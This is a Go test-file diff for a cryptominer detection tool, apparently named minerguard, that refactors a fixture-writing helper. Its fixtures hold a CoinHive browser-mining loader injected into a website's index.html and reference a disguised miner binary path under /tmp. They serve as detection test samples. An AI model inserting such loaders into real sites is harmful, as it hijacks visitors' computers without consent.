@@ -10,6 +10,7 @@ import (
 
 	"github.com/minerguard/minerguard/internal/findings"
 	"github.com/minerguard/minerguard/internal/host"
+	"github.com/minerguard/minerguard/internal/testkit/fstree"
 )
 
 // minerELF is a stand-in miner binary: an ELF header and the strings an
@@ -59,7 +60,7 @@ func TestInfectedFamilies(t *testing.T) {
 		// Web cryptojacking: a CoinHive loader injected into a site.
 		"var/www/html/index.html": "<html><head><script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n<script>var miner = new CoinHive.Anonymous('SsZsTzbHDPr0xEwxR4ZyCUsLCxPfbBST', {throttle: 0.3}); miner.start();</script></head></html>\n",
 	}
-	writeFamilyTree(t, root, tree)
+	fstree.Write(t, root, tree, 0)
 
 	want := []artefact{
 		{"files.miner_binary", "/tmp/.x/kworkerds", findings.High, "rocke"},
@@ -156,30 +157,6 @@ func TestInfectedFamilies(t *testing.T) {
 	if t.Failed() || os.Getenv("MG_DUMP") != "" {
 		for _, f := range rep.Findings {
 			t.Logf("%s %s %s %s [%s]", f.Incident, f.Severity, f.Rule, f.Evidence.Path, strings.Join(f.Evidence.Paths, " "))
-		}
-	}
-}
-
-// writeFamilyTree writes files and "->target" symlinks under root.
-func writeFamilyTree(t *testing.T, root string, tree map[string]string) {
-	t.Helper()
-	for name, content := range tree {
-		p := filepath.Join(root, name)
-		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if target, ok := strings.CutPrefix(content, "->"); ok {
-			if err := os.Symlink(target, p); err != nil {
-				t.Fatal(err)
-			}
-			continue
-		}
-		mode := os.FileMode(0o644)
-		if strings.HasPrefix(content, "\x7fELF") {
-			mode = 0o755
-		}
-		if err := os.WriteFile(p, []byte(content), mode); err != nil {
-			t.Fatal(err)
 		}
 	}
 }
